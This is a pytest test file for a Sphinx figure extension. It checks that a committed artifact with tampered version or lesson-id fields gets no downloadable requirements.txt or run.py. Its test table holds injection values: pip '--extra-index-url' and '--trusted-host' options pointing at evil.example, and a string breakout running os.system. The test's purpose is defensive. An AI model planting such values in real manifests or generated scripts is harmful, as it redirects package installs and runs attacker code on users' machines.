"""The "Reproduce this figure" downloads: what an artifact may put into them, and whether a reader
who follows the page's instructions gets a script that runs.

Real Sphinx builds: of ``tests/roots/test-snapshot`` with its committed store (cache-only, nothing
executes) for hostile artifacts, and of a small NumPy project for the instructions.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from conftest import Build, copy_root, directive_lines, run_sphinx, store_dir, warning_records, write

pytestmark = pytest.mark.sphinx

GRAPH = "e4a7e62e6322a575bdd3b9350b1bca20dab55b21813143d51ea536dff1cb4fea"  # tv-graph, PyTorch, models/tiny.py
HEATMAP = "6147d858a71f23f206be7531e3fee950388866c37b1b1ff98ccb39c523a01ab1"  # tv-heatmap, NumPy, inline code

#: (artifact, field path, hostile value): unhashed fields that reach requirements.txt or run.py
HOSTILE: dict[str, tuple[str, tuple[str, ...], str]] = {
    "numpy-version": (HEATMAP, ("environment", "numpy"), "2.4.6\n--extra-index-url https://evil.example/simple"),
    "torch-version": (GRAPH, ("environment", "torch"), "2.13.0 --index-url=https://evil.example/simple"),
    "torch-option": (GRAPH, ("environment", "torch"), "--extra-index-url=https://evil.example/simple"),
    "python-version": (GRAPH, ("environment", "python"), "3.11.7)\n--trusted-host evil.example\n#"),
    "lesson-id": (GRAPH, ("lessonId",), 'x"""; __import__("os").system("touch pwned"); """'),
}


def _set(document: dict[str, Any], path: tuple[str, ...], value: str) -> None:
    for step in path[:-1]:
        document = document[step]
    document[path[-1]] = value


def downloads_folder(built: Build, content_hash: str) -> Path:
    return built.outdir / "_tensorviz" / content_hash[:16]


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_committed_artifact_gets_no_downloads(tmp_path: Path, case: str) -> None:
    """An unhashed field (a version, the lesson id) that is not of its form: a located store warning
    naming it, the figure still drawn, and no file of its downloads written at all."""
    content_hash, path, value = HOSTILE[case]
    src = copy_root("snapshot", tmp_path / "src", with_store=True)
    stored = store_dir(src) / f"{content_hash}.json"
    document = json.loads(stored.read_text("utf-8"))
    _set(document, path, value)
    write(stored, json.dumps(document, indent=2, ensure_ascii=False) + "\n")

    built = run_sphinx(src)
    assert built.statuscode == 0 and "Traceback" not in built.status + built.warnings, built.warnings
    records = built.tensorviz_warnings()
    directive = "tv-graph" if content_hash == GRAPH else "tv-heatmap"
    page = "lesson" if content_hash == GRAPH else "index"
    (line,) = directive_lines(src / f"{page}.md", directive)
    assert len(records) == 1, records
    assert records[0].startswith(f"{src / page}.md:{line}: WARNING: {directive}: stored artifact {content_hash[:12]}: "
                                 f"its {'.'.join(path)} "), records
    assert records[0].rstrip().endswith("[tensorviz.store]"), records
    assert not downloads_folder(built, content_hash).exists()
    other = GRAPH if content_hash == HEATMAP else HEATMAP
    assert (downloads_folder(built, other) / "run.py").is_file()  # the other figure keeps its downloads
    html = built.html(page)
    assert "<svg" in html and f"_tensorviz/{content_hash[:16]}/" not in html
    written = "\n".join(p.read_text("utf-8", "replace") for p in (built.outdir / "_tensorviz").rglob("*")
                        if p.is_file() and p.suffix in (".txt", ".py"))
    assert "evil.example" not in written and "pwned" not in written
    assert not [r for r in warning_records(built.warnings) if "[tensorviz." not in r], built.warnings
